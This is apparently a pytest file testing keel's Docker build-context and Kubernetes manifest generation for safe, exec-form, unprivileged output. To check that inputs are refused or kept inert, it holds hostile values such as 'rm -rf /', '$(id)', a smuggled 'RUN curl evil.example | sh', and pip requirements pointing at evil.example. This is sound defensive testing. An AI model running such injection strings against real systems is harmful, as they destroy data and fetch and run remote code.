"""Containers and Kubernetes: ``keel.serving.build_context`` writes a Docker build context
whose every command is exec form, with only checked values in it; ``manifests`` validate
against the Kubernetes schemas; hostile names and requirements are refused or inert."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from keel.client import Client
from keel.errors import AlreadyExists, InvalidArgument
from keel.serving.kubernetes import manifests, write_manifests
from keel.serving.packaging import build_context, check_requirements, default_name, dockerfile
from serving.batch_support import Registered, registered, train

yaml = pytest.importorskip("yaml")
kubernetes_validate = pytest.importorskip("kubernetes_validate.utils")

__all__ = ["registered"]  # the fixture, used by name
runner = CliRunner()

HOSTILE = [
    'fraud"; rm -rf / #',
    "fraud$(id)",
    "fraud`id`",
    "fraud\nRUN curl evil.example | sh",
    "fraud'",
    "Fraud",
    "-fraud",
    "a" * 64,
    "",
]
"""Strings that would break out of a shell word or a Dockerfile line if pasted in."""
SHELL_FORM = ("RUN", "CMD", "ENTRYPOINT")


def instructions(text: str) -> list[tuple[str, str]]:
    """A Dockerfile's instructions as (INSTRUCTION, arguments): comments and blank lines
    dropped, continuation lines joined (as Docker's parser reads them)."""
    found: list[tuple[str, str]] = []
    pending = ""
    for line in text.splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        whole = (pending + line).strip()
        pending = ""
        keyword, _, rest = whole.partition(" ")
        found.append((keyword.upper(), rest.strip()))
    assert not pending, "a continuation line at the end"
    return found


def exec_form(arguments: str) -> list[str]:
    """The JSON array of an exec-form instruction (fails for shell form)."""
    argv = json.loads(arguments)
    assert isinstance(argv, list) and all(isinstance(word, str) for word in argv), arguments
    return argv


def check_dockerfile(text: str) -> dict[str, list[str]]:
    """Every instruction Docker knows, every command in exec form; returns them by name."""
    known = {"FROM", "LABEL", "ENV", "RUN", "COPY", "USER", "WORKDIR", "EXPOSE", "HEALTHCHECK",
             "CMD", "ENTRYPOINT", "ARG"}  # fmt: skip
    by_name: dict[str, list[str]] = {}
    for keyword, arguments in instructions(text):
        assert keyword in known, keyword
        if keyword in SHELL_FORM:
            exec_form(arguments)
        if keyword == "HEALTHCHECK":
            assert " CMD [" in f" {arguments}"
            exec_form(arguments[arguments.index("CMD ") + 4 :])
        by_name.setdefault(keyword, []).append(arguments)
    return by_name


@pytest.fixture(scope="module")
def context(registered: Registered, tmp_path_factory: pytest.TempPathFactory) -> Any:
    out = tmp_path_factory.mktemp("context") / "fraud-api"
    return build_context(
        registered.uri,
        out,
        name="fraud-api",
        tracking_uri=registered.store,
        settings=registered.settings,
    )


def test_the_build_context_holds_the_checked_model_and_an_exec_form_dockerfile(
    context: Any,
) -> None:
    from keel.models import files, read_manifest

    folder = context.folder
    assert sorted(p.name for p in folder.iterdir()) == [
        ".dockerignore",
        "Dockerfile",
        "model",
        "requirements.txt",
    ]
    manifest = read_manifest(folder / "model")
    files.verify(folder / "model", manifest.files)  # every file as registered

    parts = check_dockerfile(context.dockerfile.read_text())
    assert parts["FROM"] == ["python:3.11-slim-bookworm"]  # pinned by tag, slim
    assert parts["USER"] == ["10001:10001"]  # numeric: runAsNonRoot can check it
    assert parts["EXPOSE"] == ["8080"]
    assert exec_form(parts["CMD"][0]) == [
        "keel", "serve", "/opt/model", "--host", "0.0.0.0", "--port", "8080",
        "--insecure-no-auth",  # no store, no users: reached only inside the cluster
    ]  # fmt: skip
    health = exec_form(parts["HEALTHCHECK"][0].split("CMD ", 1)[1])
    assert health[:2] == ["python", "-c"] and "/v2/health/ready" in health[2]
    installs = [exec_form(run) for run in parts["RUN"]]
    assert ["python", "-m", "pip", "install", "--no-cache-dir", "--requirement",
            "/opt/keel/requirements.txt"] in installs  # fmt: skip
    assert f'io.keel.model-digest="{context.digest.removeprefix("blake3:")}"' in parts["LABEL"]

    lines = (folder / "requirements.txt").read_text().splitlines()
    assert lines[0].startswith("keel-mlops[serving]==")
    assert any(line.startswith("scikit-learn==") for line in lines)
    assert check_requirements(lines) == tuple(lines)
    assert set(lines[1:]) == set(manifest.requirements)


def test_the_output_must_be_new_and_a_failed_build_leaves_nothing(
    registered: Registered, context: Any, tmp_path: Path
) -> None:
    with pytest.raises(AlreadyExists):
        build_context(
            registered.uri, context.folder, tracking_uri=registered.store,
            settings=registered.settings,
        )  # fmt: skip
    with pytest.raises(InvalidArgument):
        build_context(
            registered.uri, tmp_path / "ctx", base_image="python:latest",
            tracking_uri=registered.store, settings=registered.settings,
        )  # fmt: skip
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_deployment_names_are_refused_before_anything_is_written(
    registered: Registered, tmp_path: Path, name: str
) -> None:
    with pytest.raises(InvalidArgument, match="deployment name"):
        build_context(
            registered.uri, tmp_path / "ctx", name=name, tracking_uri=registered.store,
            settings=registered.settings,
        )  # fmt: skip
    with pytest.raises(InvalidArgument):
        manifests(name, image="registry.example.com/fraud:1")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "image",
    ["python:3.11; rm -rf /", "python:$(id)", "python:3.11\nRUN id", "python", "python:latest",
     "Python:3.11", "python:3.11 AS x", "`id`:1"],
)  # fmt: skip
def test_hostile_or_unpinned_images_are_refused(image: str) -> None:
    with pytest.raises(InvalidArgument):
        dockerfile(base_image=image, port=8080, name="fraud-api", version=1, digest=None)
    with pytest.raises(InvalidArgument):
        manifests("fraud-api", image=image)


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy==1.26; os_name == 'posix'",  # a marker
        "evil @ https://evil.example/evil.whl",  # a URL
        "--index-url https://evil.example/simple",  # a pip option
        "-e git+https://evil.example/x",
        "numpy==1.26\n--extra-index-url https://evil.example",
        "numpy==$(curl evil.example)",
        "numpy`id`",
        "numpy'",
        "numpy && curl evil.example",
        "",
    ],
)
def test_hostile_requirements_are_refused(requirement: str) -> None:
    with pytest.raises(InvalidArgument, match="requirement"):
        check_requirements([requirement])


def test_a_hostile_model_name_reaches_the_dockerfile_only_as_a_checked_slug(
    tmp_path: Path,
) -> None:
    from keel.config import Settings

    settings = Settings(home=tmp_path / "home", flush_interval=0.2)
    store = str(tmp_path / "store")
    hostile = "churn \"$(id)\" `id` 'x' ; \\ $HOME"
    estimator, frame = train(rows=50)
    with Client(store, settings=settings) as client:
        run_id = client.create_run(client.create_experiment("h")).run_id
        logged = client.log_model(run_id, estimator, input_example=frame.head())
        client.registry.register_model(logged.uri, hostile)
        client.set_terminated(run_id)

    built = build_context(
        f"models:/{hostile}/1", tmp_path / "ctx", tracking_uri=store, settings=settings
    )

    assert built.name == default_name(hostile) == "model-churn-id-id-x-home"
    text = built.dockerfile.read_text()
    for fragment in ("$(", "`", "'x'", "$HOME", 'churn "'):
        assert fragment not in text
    check_dockerfile(text)


def test_docker_builds_the_context(context: Any) -> None:
    """Only where a Docker daemon answers (and the base image can be pulled)."""
    docker = shutil.which("docker")
    if docker is None:
        pytest.skip("no docker command on this machine")
    info = subprocess.run([docker, "info"], capture_output=True, text=True, timeout=30)
    if info.returncode != 0:
        pytest.skip(f"no Docker daemon answers here: {info.stderr.strip().splitlines()[-1:]}")
    built = subprocess.run(
        [docker, "build", "--quiet", "-t", "keel-test/fraud-api:test", str(context.folder)],
        capture_output=True, text=True, timeout=1200,
    )  # fmt: skip
    assert built.returncode == 0, built.stderr


# manifests -------------------------------------------------------------------------------

VERSIONS = ["1.29", "1.33"]


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize("hpa", ["cpu", "rps"])
def test_manifests_validate_against_the_kubernetes_schemas(hpa: str, version: str) -> None:
    docs = manifests(
        "fraud-api",
        image="registry.example.com/team/fraud-api:3",
        hpa=hpa,
        cpu="250m",
        memory="512Mi",
        cpu_limit="2",
        namespace="ml",
        env={"KEEL_TRACKING_URI": "http://keel.ml.svc:5000"},
    )
    assert [d["kind"] for d in docs] == ["Deployment", "Service", "HorizontalPodAutoscaler"]
    for doc in docs:
        kubernetes_validate.validate(doc, version, strict=True)


def test_the_deployment_is_probed_limited_and_unprivileged() -> None:
    deployment, service, hpa = manifests(
        "fraud-api", image="fraud-api@sha256:" + "a" * 64, hpa="rps", target_rps=250
    )
    pod = deployment["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert container["livenessProbe"]["httpGet"] == {"path": "/v2/health/live", "port": "http"}
    assert container["readinessProbe"]["httpGet"] == {"path": "/v2/health/ready", "port": "http"}
    assert container["resources"] == {
        "requests": {"cpu": "500m", "memory": "1Gi"},
        "limits": {"memory": "1Gi"},
    }
    security = container["securityContext"]
    assert security["runAsNonRoot"] and security["readOnlyRootFilesystem"]
    assert security["allowPrivilegeEscalation"] is False
    assert security["capabilities"] == {"drop": ["ALL"]}
    assert pod["securityContext"]["runAsNonRoot"] and not pod["automountServiceAccountToken"]
    assert container["volumeMounts"] == [{"name": "tmp", "mountPath": "/tmp"}]
    labels = deployment["spec"]["template"]["metadata"]["labels"]
    assert deployment["spec"]["selector"]["matchLabels"].items() <= labels.items()
    assert service["spec"]["selector"] == deployment["spec"]["selector"]["matchLabels"]
    assert hpa["spec"]["metrics"] == [
        {
            "type": "Pods",
            "pods": {
                "metric": {"name": "keel_requests_per_second"},
                "target": {"type": "AverageValue", "averageValue": "250"},
            },
        }
    ]


@pytest.mark.parametrize(
    ("options", "pattern"),
    [
        ({"cpu": "lots"}, "cpu 'lots': must be a positive Kubernetes quantity"),
        ({"memory": "1Gi; rm"}, "memory"),
        ({"memory": "0"}, "memory"),
        ({"hpa": "memory"}, "hpa: must be one of cpu, rps, none"),
        ({"min_replicas": 5, "max_replicas": 2}, "must not exceed max replicas"),
        ({"port": 80}, "port: must be a whole number from 1024"),
        ({"env": {"BAD NAME": "x"}}, "env 'BAD NAME'"),
        ({"hpa": "rps", "rps_metric": "rate(x)"}, "rps metric"),
        ({"namespace": "Team A"}, "namespace"),
    ],
)
def test_bad_manifest_options_name_the_field(options: dict[str, Any], pattern: str) -> None:
    with pytest.raises(InvalidArgument, match=pattern.replace("(", r"\(").replace(")", r"\)")):
        manifests("fraud-api", image="fraud-api:1", **options)


def test_manifests_are_written_as_yaml_that_reads_back(tmp_path: Path) -> None:
    docs = manifests("fraud-api", image="fraud-api:1", env={"NOTE": 'it\'s "quoted"\n$(id) `id`'})
    written = write_manifests(docs, tmp_path / "k8s")
    assert [p.name for p in written] == ["deployment.yaml", "service.yaml", "hpa.yaml"]
    assert [yaml.safe_load(p.read_text()) for p in written] == docs  # the value stays data
    with pytest.raises(AlreadyExists):
        write_manifests(docs, tmp_path / "k8s")


# the command line ------------------------------------------------------------------------


def test_cli_build_and_manifests(
    registered: Registered, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from keel.cli.deployments_build import app

    monkeypatch.setenv("KEEL_HOME", str(registered.settings.home))
    monkeypatch.setenv("KEEL_TRACKING_URI", registered.store)

    built = runner.invoke(
        app, ["build", registered.uri, "-o", str(tmp_path / "ctx"), "--name", "churn-api"]
    )
    assert built.exit_code == 0, built.output
    assert "wrote a build context for churn-api" in built.output
    assert (tmp_path / "ctx" / "Dockerfile").is_file()

    made = runner.invoke(
        app,
        ["manifests", "churn-api", "--image", "registry.example.com/churn-api:1", "-o",
         str(tmp_path / "k8s"), "--hpa", "rps", "--env", "KEEL_TRACKING_URI=http://keel:5000",
         "--json"],
    )  # fmt: skip
    assert made.exit_code == 0, made.output
    files = [Path(p) for p in json.loads(made.output)["files"]]
    for path in files:
        kubernetes_validate.validate(yaml.safe_load(path.read_text()), "1.33", strict=True)


def test_cli_build_by_deployment_name(
    registered: Registered, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A deployment's name builds the one model its traffic goes to; a split is refused."""
    pytest.importorskip(
        "keel.deployments.client", reason="keel.Client().deployments (the deployments branch)"
    )
    from keel.cli.deployments_build import app

    monkeypatch.setenv("KEEL_HOME", str(registered.settings.home))
    monkeypatch.setenv("KEEL_TRACKING_URI", registered.store)
    with Client(registered.store, settings=registered.settings) as c:
        c.deployments.create("churn-api", registered.uri)

    built = runner.invoke(app, ["build", "churn-api", "-o", str(tmp_path / "ctx"), "--json"])

    assert built.exit_code == 0, built.output
    described = json.loads(built.output)
    assert (described["name"], described["model_version"]) == ("churn-api", 1)
    parts = check_dockerfile((tmp_path / "ctx" / "Dockerfile").read_text())
    assert 'io.keel.deployment="churn-api"' in parts["LABEL"]
